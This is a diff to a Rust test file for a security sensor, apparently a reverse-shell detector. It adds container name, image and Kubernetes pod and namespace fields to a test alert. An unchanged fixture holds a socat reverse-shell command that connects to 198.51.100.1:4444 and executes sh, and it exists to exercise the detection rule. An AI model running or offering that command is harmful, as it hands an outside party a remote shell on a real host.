@@ -9,7 +9,7 @@ mod template;
 
 use sensor::alert::{Finding, add, document, repeated};
 use sensor::detect::rule::REVERSE_SHELL_VIA_CHILD;
-use sensor::event::ecs::{ECS_VERSION, Extras, Known, Origin, ParentProgram, ParentSource};
+use sensor::event::ecs::{ContainerNames, ECS_VERSION, Extras, Known, Origin, ParentProgram, ParentSource};
 use sensor::event::facts::Field;
 use sensor::event::{
     Ancestor, Args, BootTime, Connection, Direction, Exec, Executable, Lineage, PathState, ProcessKey, Reason,
@@ -53,7 +53,14 @@ fn args(words: &[&str]) -> Args {
 fn extras() -> Extras {
     let parent =
         ParentProgram { args: args(&["socat", "TCP:198.51.100.1:4444", "EXEC:sh"]), source: ParentSource::Exec };
-    Extras { user: Some("www-data".to_owned()), container: Some("c".repeat(64)), parent: Some(parent) }
+    let some = |text: &str| Some(text.to_owned());
+    let names = ContainerNames {
+        image: some("registry.example.org/web:1"),
+        name: some("web"),
+        pod: some("web-7d4b9"),
+        namespace: some("shop"),
+    };
+    Extras { user: some("www-data"), container: Some("c".repeat(64)), names, parent: Some(parent) }
 }
 
 fn connection(direction: Direction, extras: &Extras) -> Value {
@@ -232,7 +239,12 @@ fn an_alert_says_who_did_what_when_and_where() {
         "process": exec["process"],
         "user": exec["user"],
         "host": exec["host"],
-        "container": {"id": "c".repeat(64)},
+        "container": {"id": "c".repeat(64), "name": "web", "image": {"name": "registry.example.org/web:1"}},
+        "orchestrator": {
+            "type": "kubernetes",
+            "namespace": "shop",
+            "resource": {"type": "pod", "name": "web-7d4b9"},
+        },
         "source": {"ip": "10.0.0.9", "port": 40000},
         "destination": {"ip": "198.51.100.1", "port": 4444},
         "network": {"transport": "tcp", "type": "ipv4", "direction": "egress"},
